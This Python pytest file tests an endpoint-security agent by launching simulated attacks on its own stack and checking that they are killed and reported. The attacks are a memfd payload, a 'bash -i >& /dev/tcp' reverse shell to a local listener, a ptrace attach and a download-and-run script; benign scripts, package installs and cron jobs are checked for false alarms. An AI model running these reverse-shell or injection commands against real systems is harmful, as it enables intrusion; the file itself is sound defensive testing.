"""Behaviour rules of a real vigil-endpoint against real attacks, observed from outside.

A real agent (two processes, real fanotify on a tmpfs of this module, the real process connector)
publishing to a real Mosquitto; attacks run as separate processes: a payload executed from a memfd,
a `bash -i` reverse shell to a listener in a network namespace of the test's own, a ptrace attach.
What is checked is what an outsider sees: the attack process's fate (killed or not), the listener's
connection, and the behaviour events on the broker.  Budget: about 40 s.
"""
from __future__ import annotations

import ctypes
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import paho.mqtt.client as paho
import pytest
from paho.mqtt.enums import CallbackAPIVersion
import yaml

from tests.support.endpoint_behaviour import Events, Listener, Netns, deleted_payload_cmd, memfd_payload_cmd
from tests.support.endpoint_stack import Teardown, endpoint_agent, wait_connected
from tests.support.waiting import wait_for
from tests.support.fanotify import mount_id, mount_tmpfs, remove_tmpfs
from vigil.control import call
from vigil.influx import InfluxError
from vigil.lab.services import InfluxDB, ManagedProcess, Mosquitto, free_port, vigil_command

pytestmark = pytest.mark.integration

SLEEP = shutil.which("sleep")


class Stack:
    def __init__(self, run: Path):
        self.run = run
        self.mnt = run / "mnt"

    def agent(self, mode: str, name: str, **over):
        return endpoint_agent(self.run, name, self.mosquitto.mqtt_config(), [self.mnt], mode,
                              mark_ids=[self.mnt_id], **over)


def decider_counters(agent) -> dict:
    return call(agent.sock, "endpoint.status", timeout=10)["decider"]["counters"]


def start_manager(run: Path, mosquitto, influx, **verdicts) -> ManagedProcess:
    cfg = {"manager_id": "m", "mqtt": mosquitto.mqtt_config(),
           "influx": {"url": influx.url, "flush_interval": 0.5},
           "state_dir": str(run / "state"), "control_socket": str(run / "manager.sock"),
           "verdicts": {"clamd_socket": None, **verdicts}}
    (run / "manager.yaml").write_text(yaml.safe_dump(cfg))
    manager = ManagedProcess("manager", [*vigil_command("vigil-manager"), "-c", str(run / "manager.yaml")],
                             run).start()
    try:
        wait_connected(manager, 20)
    except BaseException:
        manager.stop()
        raise
    return manager


@pytest.fixture(scope="module")
def stack():
    run, _ = mount_tmpfs("bh", size="16m")
    s = Stack(run)
    down = Teardown()
    try:
        s.mnt_id = mount_id(s.mnt)
        s.mosquitto = down.add(Mosquitto(run).start())
        s.influx = down.add(InfluxDB(run).start())
        s.events = down.add(Events(s.mosquitto.port))
        s.ns = down.add(Netns())
        s.manager = down.add(start_manager(run, s.mosquitto, s.influx))
        yield s
    finally:
        try:
            down.close()
        finally:
            remove_tmpfs(run)


def run_memfd_payload(*args: str, timeout: float = 10.0, cmd=memfd_payload_cmd) -> tuple[int, float]:
    """(exit status, seconds from just before its execve to its death as seen by its parent)."""
    p = subprocess.Popen(cmd(SLEEP, *args), stdout=subprocess.PIPE, text=True)
    try:
        t_exec = float(p.stdout.readline())
        p.wait(timeout)
        return p.returncode, time.clock_gettime(time.CLOCK_MONOTONIC) - t_exec
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()


def reverse_shell(ns: Netns, port: int) -> subprocess.Popen:
    # the classic: an interactive bash whose stdin, stdout and stderr are a TCP connection
    return subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/{ns.ns_ip}/{port} 0>&1"],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def test_memfd_payload_killed_within_50ms_p95(stack):
    sha = hashlib.sha256(Path(SLEEP).read_bytes()).hexdigest()
    stack.events.clear()
    with stack.agent("block-malicious", "bhmem") as agent:
        latencies = []
        for _ in range(20):
            rc, dt = run_memfd_payload("5")
            assert rc == -signal.SIGKILL, f"the memfd payload was not killed (exit {rc})"
            latencies.append(dt)
        latencies.sort()
        p95 = latencies[int(0.95 * len(latencies)) - 1]
        print(f"memfd payload killed: p50 {latencies[len(latencies) // 2] * 1000:.1f} ms, "
              f"p95 {p95 * 1000:.1f} ms, max {latencies[-1] * 1000:.1f} ms")
        assert p95 < 0.050, latencies
        ev = stack.events.wait(lambda e: e["rule"] == "memfd-exec")
        assert ev["action"] == "killed" and ev["technique"] == "T1620"
        assert ev["path"].startswith("/memfd:payload")
        assert ev["sha256"] == sha                       # the payload's own hash, read from memory
        assert ev["tree"][0]["pid"] == ev["pid"] and ev["tree"][0]["cmdline"].startswith("payload 5")
        assert Path(ev["tree"][1]["exe"]).name.startswith("python")      # who ran it
        assert decider_counters(agent)["behaviour_killed"] >= 20
    # the manager stores each event, with its technique, action and process tree
    rows = wait_for(lambda: stack.influx.query(
        "SELECT * FROM endpoint_behaviour WHERE \"rule\" = 'memfd-exec' AND \"endpoint\" = 'bhmem'"),
        15, "behaviour events in InfluxDB", retry_on=(InfluxError,))
    assert rows[0]["technique"] == "T1620" and rows[0]["action"] == "killed" and rows[0]["sha256"] == sha
    assert "python" in json.loads(rows[0]["tree"])[1]["exe"]


def test_exec_of_a_deleted_file_killed(stack):
    stack.events.clear()
    with stack.agent("block-malicious", "bhdel"):
        rc, _ = run_memfd_payload("5", cmd=deleted_payload_cmd)
        assert rc == -signal.SIGKILL
        ev = stack.events.wait(lambda e: e["rule"] == "deleted-exec")
        assert ev["action"] == "killed" and ev["path"].endswith("/dropper (deleted)")
        assert ev["sha256"] == hashlib.sha256(Path(SLEEP).read_bytes()).hexdigest()


def test_reverse_shell_killed_and_connection_closed(stack):
    port = free_port()
    listener = Listener(stack.ns, port)
    stack.events.clear()
    try:
        with stack.agent("block-malicious", "bhrev"):
            shell = reverse_shell(stack.ns, port)
            try:
                accepted = float(listener.expect("accepted", 10).split()[1])
                closed = float(listener.expect("closed", 5).split()[1])
                assert shell.wait(5) in (-signal.SIGKILL, 128 + signal.SIGKILL)
            finally:
                if shell.poll() is None:
                    shell.kill()
                    shell.wait()
            print(f"reverse shell: connection closed {1000 * (closed - accepted):.1f} ms after it was accepted")
            ev = stack.events.wait(lambda e: e["rule"] == "reverse-shell")
            assert ev["action"] == "killed" and ev["technique"] == "T1059.004"
            assert Path(ev["path"]).name == "bash" and ev["closed"] >= 1
            assert "bash -i" in ev["tree"][0]["cmdline"]
            assert all(len(n["sha256"] or "") == 64 for n in ev["tree"][:2])
    finally:
        listener.close()


def test_monitor_mode_reports_and_does_not_block(stack):
    port = free_port()
    # the attacker types a command; the shell runs it and answers
    listener = Listener(stack.ns, port, send="echo vigil-$((6*7)); exit\n")
    stack.events.clear()
    try:
        with stack.agent("monitor", "bhmon"):
            rc, _ = run_memfd_payload("0.2")
            assert rc == 0, "monitor mode killed the memfd payload"
            shell = reverse_shell(stack.ns, port)
            try:
                listener.expect("accepted", 10)
                got = listener.expect("data", 5)
                while "vigil-42" not in " ".join(listener.out):
                    got = listener.expect("data", 5)
                listener.expect("closed", 5)
                assert shell.wait(5) == 0, got
            finally:
                if shell.poll() is None:
                    shell.kill()
                    shell.wait()
            for rule in ("memfd-exec", "reverse-shell"):
                ev = stack.events.wait(lambda e, rule=rule: e["rule"] == rule)
                assert ev["action"] == "would-block" and ev["mode"] == "monitor"
    finally:
        listener.close()


BENIGN_SCRIPT = """#!/bin/sh
set -e
# the kind of thing package maintainer scripts and cron jobs do
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
printf '#!/bin/sh\\necho helper "$@"\\n' > "$tmp/helper"
chmod +x "$tmp/helper"
"$tmp/helper" one | tr a-z A-Z | grep -q HELPER
for i in 1 2 3; do sh -c 'echo $((1+$1))' _ "$i" >/dev/null; done
bash -c 'true | cat' </dev/null
python3 -c 'import subprocess; subprocess.run("echo hi | wc -c", shell=True, check=True, capture_output=True)'
env LC_ALL=C sort </dev/null
"""


def test_benign_run_fires_no_rule(stack):
    script = stack.run / "benign.sh"
    script.write_text(BENIGN_SCRIPT)
    script.chmod(0o755)
    stack.events.clear()
    with stack.agent("block-malicious", "bhok") as agent:
        for _ in range(3):
            subprocess.run([str(script)], check=True, timeout=30)
            subprocess.run(["bash", "-lc", "cd /tmp && ls >/dev/null && echo ok"], check=True, timeout=30,
                           capture_output=True)
            subprocess.run([sys.executable, "-c", "print(sum(range(10)))"], check=True, capture_output=True)
        # an interactive shell of an operator on a terminal (a pseudo-terminal, not a socket)
        subprocess.run(["script", "-qec", "bash -ic 'echo interactive'", "/dev/null"], check=True,
                       capture_output=True, timeout=30, stdin=subprocess.DEVNULL)
        # a shell whose stdio is a Unix socket (as for `ssh host cmd` and service managers)
        subprocess.run([sys.executable, "-c", "import socket, subprocess; a, b = socket.socketpair();"
                        "subprocess.run(['sh', '-c', 'echo hi'], stdin=b, stdout=b, check=True)"],
                       check=True, capture_output=True, timeout=30)
        time.sleep(1.0)
        c = decider_counters(agent)
        assert c.get("behaviour_exec_events", 0) >= 30, c        # it was watching
        assert not [k for k in c if k.startswith(("behaviour_killed", "behaviour_blocked", "behaviour_rule_"))], c
        assert not stack.events.collect()


def ptrace_attach_and_wait(target: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, target, 0, 0) != 0:       # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    time.sleep(5)


def test_ptrace_attach_by_non_debugger_killed(stack):
    victim = subprocess.Popen([SLEEP, "30"])
    stack.events.clear()
    try:
        with stack.agent("block-malicious", "bhptr"):
            tracer = subprocess.Popen([sys.executable, "-c",
                                       "import sys; sys.path.insert(0, sys.argv[2]);"
                                       "from tests.integration.test_endpoint_behaviour import ptrace_attach_and_wait;"
                                       "ptrace_attach_and_wait(int(sys.argv[1]))", str(victim.pid), os.getcwd()])
            assert tracer.wait(10) == -signal.SIGKILL
            ev = stack.events.wait(lambda e: e["rule"] == "ptrace-attach")
            assert ev["action"] == "killed" and ev["tracee"]["pid"] == victim.pid and ev["pid"] == tracer.pid
            if shutil.which("strace"):      # an allowed debugger is left alone
                st = subprocess.Popen(["strace", "-o", "/dev/null", "-p", str(victim.pid)],
                                      stderr=subprocess.DEVNULL)
                time.sleep(1.0)
                assert st.poll() is None, "strace was killed"
                st.terminate()
                st.wait(5)
            assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait()


DOWNLOADER = r"""
import os, socket, sys
# "downloads" a program: holds a connection to the attacker's server while it writes the file
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
data = open("/bin/true", "rb").read()
with open(sys.argv[3], "wb") as f:
    f.write(data)
os.chmod(sys.argv[3], 0o755)
try:
    os.execv(sys.argv[3], [sys.argv[3]])
except PermissionError:
    print("EPERM", flush=True)
"""


def test_download_and_run_denied_in_strict_mode(stack):
    port = free_port()
    listener = Listener(stack.ns, port)
    stack.events.clear()
    fetched, local = stack.mnt / "fetched", stack.mnt / "local-build"
    try:
        with stack.agent("block-malicious", "bhdl", behaviour={"strict": True}, decision_deadline=0.05) as agent:
            r = subprocess.run([sys.executable, "-c", DOWNLOADER, stack.ns.ns_ip, str(port), str(fetched)],
                               capture_output=True, text=True, timeout=30)
            assert r.stdout.strip() == "EPERM", r
            ev = stack.events.wait(lambda e: e["rule"] == "download-and-run")
            assert ev["action"] == "blocked" and ev["technique"] == "T1105" and ev["path"] == str(fetched)
            assert Path(ev["writer"]["exe"]).name.startswith("python") and ev["writer"]["age_ms"] < 30000
            # a program written by a process without a network connection runs (not by this test's
            # own process: it holds the MQTT connection of the event subscriber)
            subprocess.run(["cp", "/bin/true", str(local)], check=True)
            assert subprocess.run([str(local)]).returncode == 0
            c = decider_counters(agent)
            assert c["behaviour_network_writes"] == 1 and c["behaviour_writes_seen"] >= 2
        # outside the stricter mode the rule is off and nothing watches writes
        fetched.unlink()
        listener.close()
        listener = Listener(stack.ns, port)
        with stack.agent("block-malicious", "bhdl2", decision_deadline=0.05) as agent:
            r = subprocess.run([sys.executable, "-c", DOWNLOADER, stack.ns.ns_ip, str(port), str(fetched)],
                               capture_output=True, text=True, timeout=30)
            assert r.returncode == 0 and "EPERM" not in r.stdout, r
            assert "behaviour_writes_seen" not in decider_counters(agent)
    finally:
        listener.close()


def test_connector_refused_in_a_nested_pid_namespace():
    """Its pids are the initial namespace's: read through a container's /proc they would name other
    processes (and a kill would hit the wrong one)."""
    code = ("from vigil.endpoint.behaviour.connector import Connector\n"
            "try:\n    Connector()\nexcept OSError as e:\n    print('refused', e.errno)\n")
    r = subprocess.run(["unshare", "--pid", "--fork", "--mount-proc", sys.executable, "-c", code],
                       capture_output=True, text=True, timeout=30)
    assert r.stdout.strip() == "refused 95", r


def vigilctl(stack, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([*vigil_command("vigilctl"), "--socket", str(stack.run / "manager.sock"), *args],
                          capture_output=True, text=True, timeout=30)


def test_operator_exception_from_the_manager_applies_without_restart(stack):
    """vigilctl -> the manager (saved, pushed retained) -> the running agent -> its decider: the
    memfd payload runs while an exception covers it, and is killed again once it is removed.
    A bad exception is refused by the manager; a bad entry pushed to the topic by someone else
    is dropped and counted by the agent, and the good ones of the same message still apply."""
    bad = vigilctl(stack, "exceptions", "add", "--rule", "memfd-exec")
    assert bad.returncode == 2 and "--path, --unit or --user" in bad.stderr
    bad = vigilctl(stack, "exceptions", "add", "--rule", "No Such Rule!", "--path", "/x")
    assert bad.returncode == 2 and "rule" in bad.stderr
    with stack.agent("block-malicious", "bhexc") as agent:
        rc, _ = run_memfd_payload("0.1")
        assert rc == -signal.SIGKILL
        added = vigilctl(stack, "--json", "exceptions", "add", "--rule", "memfd-exec", "--path", "/memfd:payload*",
                         "--endpoint", "bhexc", "--comment", "our JIT", "--id", "jit")
        assert added.returncode == 0, added.stderr
        assert json.loads(added.stdout)[0]["id"] == "jit"
        # another endpoint's exception is not applied here
        other = vigilctl(stack, "exceptions", "add", "--rule", "*", "--user", "root", "--endpoint", "elsewhere-*")
        assert other.returncode == 0, other.stderr
        wait_for(lambda: decider_counters(agent).get("behaviour_exceptions_updates", 0) >= 2, 10,
                 "both pushes applied in the decider")
        assert decider_counters(agent)["behaviour_exceptions_pushed"] == 1
        rc, _ = run_memfd_payload("0.1")
        assert rc == 0, "the excepted payload was killed"
        assert decider_counters(agent).get("behaviour_excepted_memfd-exec", 0) >= 1
        listed = vigilctl(stack, "exceptions", "list")
        assert "jit" in listed.stdout and "our JIT" in listed.stdout and "elsewhere-*" in listed.stdout
        assert vigilctl(stack, "exceptions", "remove", "jit").returncode == 0
        assert vigilctl(stack, "exceptions", "remove", "jit").returncode == 2      # gone already
        wait_for(lambda: decider_counters(agent).get("behaviour_exceptions_pushed", 1) == 0, 10,
                 "the removal applied in the decider")
        rc, _ = run_memfd_payload("0.1")
        assert rc == -signal.SIGKILL, "killed again once the exception was removed"
        # someone else publishes on the topic: the invalid entry is dropped and counted
        pub = paho.Client(CallbackAPIVersion.VERSION2, protocol=paho.MQTTv5)
        pub.connect("127.0.0.1", stack.mosquitto.port)
        pub.loop_start()
        try:
            body = {"schema": "vigil.behaviour-exceptions/1", "ts": 0, "sender": "test",
                    "exceptions": [{"id": "ok1", "rule": "memfd-exec", "path": "/memfd:payload*"},
                                   {"id": "no-condition", "rule": "memfd-exec"},
                                   {"id": "bad rule", "rule": "???", "path": "/x"}]}
            pub.publish("vigil/v1/behaviour/exceptions", json.dumps(body), qos=1, retain=True).wait_for_publish(5)
        finally:
            pub.loop_stop()
            pub.disconnect()
        wait_for(lambda: call(agent.sock, "endpoint.status")["counters"].get("behaviour_exceptions_rejected", 0) == 2,
                 10, "the invalid entries counted")
        wait_for(lambda: decider_counters(agent).get("behaviour_exceptions_pushed") == 1, 10, "the valid one applied")
        assert run_memfd_payload("0.1")[0] == 0
    # the manager's set (without "jit") is published again: back to what the operator keeps
    assert vigilctl(stack, "exceptions", "remove", json.loads(vigilctl(stack, "--json", "exceptions", "list").stdout)
                    [0]["id"]).returncode == 0
    assert json.loads(vigilctl(stack, "--json", "exceptions", "list").stdout) == []


def test_benign_execs_left_to_the_kernel_are_still_reported(stack):
    """With the process connector on (the default), a benign file gets the kernel's ignore mark: its
    next execs raise no permission event (one wake of the decider per exec, the connector's, not
    two) and are still reported, from the notification group read in batches — short-lived
    processes included.  A script is kept on the gate (the service rule needs to see it), and a
    write drops the mark (the kernel asks again)."""
    prog = stack.mnt / "kc-prog"
    prog.write_bytes(Path("/bin/true").read_bytes() + os.urandom(16))
    prog.chmod(0o755)
    script = stack.mnt / "kc-script"
    script.write_text(f"#!/bin/sh\n# {os.urandom(8).hex()}\nexit 0\n")
    script.chmod(0o755)
    for f in (prog, script):
        sha = hashlib.sha256(f.read_bytes()).hexdigest()
        assert vigilctl(stack, "hashes", "allow", sha).returncode == 0
    with stack.agent("block-malicious", "bhkc") as agent:
        def counters():
            return decider_counters(agent)
        assert subprocess.run([str(prog)]).returncode == 0      # asked, benign: the kernel's mark is set
        n = counters()["events"]
        for _ in range(5):
            assert subprocess.run([str(prog)]).returncode == 0
        wait_for(lambda: counters().get("decisions_allowed_kernel", 0) >= 5, 5, "execs reported from the notification group",
                 explain=lambda: counters())
        assert counters()["events"] == n                         # the kernel no longer asked
        assert counters().get("decisions_allowed_kernel") == 5  # each reported once (not the one that set the mark)
        wait_for(lambda: call(agent.sock, "endpoint.status")["counters"].get("executions_allowed", 0) >= 6, 5,
                 "the reports reaching the agent")
        for _ in range(3):
            assert subprocess.run([str(script)]).returncode == 0
        c = counters()
        assert c["events"] >= n + 3 and c.get("ignore_skipped_scripts", 0) >= 1 and c["decisions_allowed_kernel"] == 5
        with open(prog, "r+b") as f:                             # a write: the kernel drops the mark
            f.seek(0, 2)
            f.write(b"\0")
        assert subprocess.run([str(prog)]).returncode == 0
        assert counters()["events"] >= n + 4


MAINTAINER_SCRIPT = """#!/bin/sh
set -e
# what maintainer scripts do: run the package's own program, shells and a Python helper, keep state
echo "$0 $*" >> "{state}/log"
"{prog}" "$1"
sh -c 'printf "%s\\\\n" "$1" >> "$2"' _ "shell $1" "{state}/log"
python3 -c 'import sys; open(sys.argv[1], "a").write("python " + sys.argv[2] + "\\\\n")' "{state}/log" "$1"
if [ -x /usr/bin/getent ]; then getent passwd root >/dev/null; fi
exit 0
"""


def build_deb(where: Path, name: str, prog_dir: Path, state: Path) -> Path:
    """A package (dpkg-deb, no network) whose program lands on the watched mount and whose
    maintainer scripts run it, a shell and Python."""
    root = where / f"{name}-root"
    prog = prog_dir / "hello"
    (root / "DEBIAN").mkdir(parents=True)
    (root / prog.parent.relative_to("/")).mkdir(parents=True)
    (root / prog.relative_to("/")).write_text("#!/bin/sh\necho \"hello from the package: $*\"\n")
    (root / prog.relative_to("/")).chmod(0o755)
    (root / "DEBIAN" / "control").write_text(
        f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: Vigil tests <tests@invalid>\n"
        "Description: benign package of the endpoint behaviour tests\n")
    for script in ("postinst", "prerm", "postrm"):
        p = root / "DEBIAN" / script
        p.write_text(MAINTAINER_SCRIPT.format(state=state, prog=prog if script != "postrm" else "/bin/true"))
        p.chmod(0o755)
    deb = where / f"{name}.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "--build", str(root), str(deb)], check=True,
                   capture_output=True)
    return deb


def assert_no_rule_fired(stack, agent) -> dict:
    time.sleep(1.0)
    c = decider_counters(agent)
    assert not [k for k in c if k.startswith(("behaviour_killed", "behaviour_blocked", "behaviour_would",
                                              "behaviour_rule_"))], c
    assert not stack.events.collect()
    return c


def test_benign_package_install_fires_no_rule(stack, tmp_path):
    """`apt-get install ./local.deb` of a package built here (no network) and its removal: dpkg,
    apt and the maintainer scripts (shells, Python, the package's own program on the watched
    mount) run under an agent with the default rules in block mode, and nothing fires."""
    name = f"vigil-test-benign-{os.getpid()}"
    state = tmp_path / "state"
    state.mkdir()
    prog_dir = stack.mnt / "pkg"
    deb = build_deb(tmp_path, name, prog_dir, state)
    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    apt = ["apt-get", "-y", "-q", "-o", "DPkg::Lock::Timeout=120", "-o", "APT::Sandbox::User=root"]
    stack.events.clear()
    try:
        with stack.agent("block-malicious", "bhdeb") as agent:
            before = decider_counters(agent)
            r = subprocess.run([*apt, "install", "--no-install-recommends", f"./{deb.name}"], cwd=tmp_path, env=env,
                               capture_output=True, text=True, timeout=300)
            assert r.returncode == 0, r.stdout + r.stderr
            assert subprocess.run([str(prog_dir / "hello"), "by hand"], capture_output=True, text=True,
                                  check=True).stdout == "hello from the package: by hand\n"
            r = subprocess.run([*apt, "purge", name], env=env, capture_output=True, text=True, timeout=300)
            assert r.returncode == 0, r.stdout + r.stderr
            log = (state / "log").read_text()
            assert "shell configure" in log and "python configure" in log and "python remove" in log, log
            c = assert_no_rule_fired(stack, agent)
            assert c.get("events", 0) > before.get("events", 0)          # the package's program went through the gate
            assert c.get("behaviour_exec_events", 0) - before.get("behaviour_exec_events", 0) >= 20   # and was watched
    finally:
        subprocess.run(["dpkg", "--purge", name], capture_output=True, env=env)


CRON_JOB = """#!/bin/sh
# an ordinary cron job: shell pipelines, a Python helper, a program of its own
set -e
out="{out}"
date +%s > "$out.tmp"
ls /etc | wc -l >> "$out.tmp"
python3 -c 'import os; print("py", os.getuid())' >> "$out.tmp"
sh -c 'echo "nested $1"' _ ok >> "$out.tmp"
mv "$out.tmp" "$out"
"""


CRON_NS = """set -e
# only this test's job: the system's crontab and cron.d are hidden in this mount namespace
mount --bind "$1/crontab" /etc/crontab
mount -t tmpfs -o mode=0755 vigil-cron /etc/cron.d
cp "$1/vigil-test" /etc/cron.d/vigil-test
chmod 0644 /etc/cron.d/vigil-test
if [ -d /var/spool/cron/crontabs ]; then mount -t tmpfs -o mode=1730 vigil-cron /var/spool/cron/crontabs; fi
exec cron -f -L 1
"""


@pytest.mark.skipif(not shutil.which("cron"), reason="cron not installed (scripts/setup installs it)")
def test_cron_job_fires_no_rule(stack, tmp_path):
    """A real cron daemon (Debian's, in the foreground, in a mount namespace of its own where the
    system's crontab and cron.d are replaced by this test's one entry) runs a job — a script
    running shells and Python — under an agent with the default rules in block mode: it runs, and
    nothing fires.  Cron starts jobs at minute boundaries, so this waits up to a minute."""
    job = stack.mnt / "cron-job"
    out = tmp_path / "cron-out"
    job.write_text(CRON_JOB.format(out=out))
    job.chmod(0o755)
    pidfile = Path("/run/crond.pid")
    if pidfile.exists():
        other = pidfile.read_text().strip()
        assert not (other.isdigit() and Path(f"/proc/{other}").exists()), "another cron daemon runs here"
    conf = tmp_path / "cron"
    conf.mkdir()
    (conf / "crontab").write_text("# empty: only /etc/cron.d/vigil-test runs\n")
    (conf / "vigil-test").write_text(f"SHELL=/bin/sh\nPATH=/usr/bin:/bin\n* * * * * root {job} >/dev/null 2>&1\n")
    stack.events.clear()
    cron = None
    try:
        with stack.agent("block-malicious", "bhcron") as agent:
            cron = subprocess.Popen(["unshare", "--mount", "--propagation", "private", "sh", "-c", CRON_NS, "sh",
                                     str(conf)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                    start_new_session=True)
            wait_for(lambda: out.exists() or cron.poll() is not None, 75, "the cron job's output", interval=0.5)
            assert cron.poll() is None, cron.stderr.read().decode()
            lines = out.read_text().splitlines()
            assert lines[2] == "py 0" and lines[3] == "nested ok", lines
            c = assert_no_rule_fired(stack, agent)
            assert c.get("behaviour_exec_events", 0) >= 5          # cron's execs were watched
    finally:
        if cron is not None:
            for sig in (signal.SIGTERM, signal.SIGKILL):      # cron and any job it started
                try:
                    os.killpg(cron.pid, sig)
                except ProcessLookupError:
                    pass
                try:
                    cron.wait(5)
                    break
                except subprocess.TimeoutExpired:
                    continue
            pidfile.unlink(missing_ok=True)
